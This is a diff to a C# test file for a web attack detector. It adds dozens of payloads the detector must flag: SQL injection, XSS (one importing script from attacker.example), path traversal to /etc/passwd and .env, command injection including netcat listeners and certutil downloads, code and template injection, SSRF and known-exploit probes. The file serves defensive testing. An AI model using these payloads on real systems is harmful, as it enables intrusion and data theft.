@@ -26,6 +26,12 @@ public sealed class AttackTests
     [InlineData("1%2527%2520or%25201%253D1")]
     [InlineData("1%EF%BC%87%20or%201=1--")]
     [InlineData("-5+procedure+analyse(extractvalue(rand(),concat(0x3a,version())),1)")]
+    [InlineData("x%27+or+full_name+like+%27%25bob%25")]
+    [InlineData("-1+OR+2%2B159-159-1%3D0%2B0%2B0%2B1")]
+    [InlineData("1;attach+database+%27/var/www/x.php%27+as+x")]
+    [InlineData("1;grant+all+on+a+to+b")]
+    [InlineData("1%27%22")]
+    [InlineData("@@version")]
     public void Judge_SqlInjection_IsFound(string value) => Find(WebAttack.SqlInjection, $"/item?id={value}");
 
     [Theory]
@@ -49,6 +55,12 @@ public sealed class AttackTests
     [InlineData("[][(![]%2B[])[%2B[]]]")]
     [InlineData("%3Cdetails/open/ontoggle=alert(1)%3E")]
     [InlineData("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
+    [InlineData("%3Cx+onnextyear=alert(1)%3E")]
+    [InlineData("[1].map(alert)")]
+    [InlineData("alert.call(null,1)")]
+    [InlineData("%7Bonerror=alert%7Dthrow+1")]
+    [InlineData("import(%27//attacker.example/x.js%27)")]
+    [InlineData("vbscript:msgbox(1)")]
     public void Judge_Scripts_AreFound(string value) => Find(WebAttack.CrossSiteScripting, $"/search?q={value}");
 
     [Theory]
@@ -61,6 +73,8 @@ public sealed class AttackTests
     [InlineData("/a/..;/..;/manager/html")]
     [InlineData("/download?file=/etc/passwd%00.png")]
     [InlineData("/x?f=C:%5Cboot.ini")]
+    [InlineData("/download?file=..%u2215..%u2215etc/passwd")]
+    [InlineData("/download?file=.env")]
     public void Judge_Traversal_IsFound(string target) => Find(WebAttack.PathTraversal, target);
 
     [Theory]
@@ -78,6 +92,13 @@ public sealed class AttackTests
     [InlineData("powershell+-enc+SQBFAFgA")]
     [InlineData("%26+cmd.exe+/c+dir")]
     [InlineData("x%7Cc%5Eertutil+-urlcache+-f+http://203.0.113.9/a")]
+    [InlineData("%26id")]
+    [InlineData("a%26%26id")]
+    [InlineData("%3B$%7BHOME:0:1%7Dbin$%7BHOME:0:1%7Did")]
+    [InlineData("x;a=nc;$a+-l+4444")]
+    [InlineData(";wh$1oami")]
+    [InlineData(";echo+hello")]
+    [InlineData("[System.Net.Dns]::GetHostAddresses(%27a.example%27)")]
     public void Judge_Commands_AreFound(string value) => Find(WebAttack.CommandInjection, $"/tools?host={value}");
 
     [Theory]
@@ -92,6 +113,17 @@ public sealed class AttackTests
     [InlineData("/a?x=__import__(%27os%27).system(%27id%27)", WebAttack.CodeInjection)]
     [InlineData("/a?__proto__[admin]=1", WebAttack.CodeInjection)]
     [InlineData("/a?x=T(java.lang.Runtime).getRuntime().exec(%22id%22)", WebAttack.CodeInjection)]
+    [InlineData("/a?x=print(md5(1))", WebAttack.CodeInjection)]
+    [InlineData("/a?x=%27.phpinfo().%27", WebAttack.CodeInjection)]
+    [InlineData("/a?x=[[7*7]]", WebAttack.CodeInjection)]
+    [InlineData("/a?x=$%7Bbase64decoder:SEk=%7D", WebAttack.KnownExploit)]
+    [InlineData("/a?x=!!python/object/apply:os.system+[%22id%22]", WebAttack.CodeInjection)]
+    [InlineData("/a?x=%E5%98%8A%E5%98%8DSet-Cookie:+a=b", WebAttack.HeaderInjection)]
+    [InlineData("/a?url=%5C%5C203.0.113.5%5Cshare%5Cx", WebAttack.RequestForgery)]
+    [InlineData("/a?url=http://0/", WebAttack.RequestForgery)]
+    [InlineData("/?PHPRC=/dev/fd/0", WebAttack.KnownExploit)]
+    [InlineData("/public/plugins/alertlist/../../../etc/passwd", WebAttack.KnownExploit)]
+    [InlineData("/autodiscover/autodiscover.json?a@b.example/powershell/", WebAttack.KnownExploit)]
     [InlineData("/a?user=*)(uid=*))(|(uid=*", WebAttack.LdapInjection)]
     [InlineData("/a?xml=%3C!DOCTYPE+a+[%3C!ENTITY+b+SYSTEM+%22file:///etc/passwd%22%3E]%3E", WebAttack.XmlInjection)]
     [InlineData("/a?lang=en%0d%0aSet-Cookie:%20a=b", WebAttack.HeaderInjection)]
